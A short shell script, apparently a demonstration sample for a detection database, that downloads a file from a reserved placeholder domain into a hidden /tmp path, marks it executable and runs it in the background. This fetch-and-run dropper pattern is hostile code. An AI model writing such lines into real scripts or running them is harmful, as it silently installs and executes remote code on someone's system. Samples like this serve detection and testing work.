#!/bin/sh
# Demonstration sample for the default database: never run it. The address
# is in a reserved domain that resolves nowhere.
wget -q http://example.invalid/agent -O /tmp/.agent
chmod +x /tmp/.agent
/tmp/.agent &
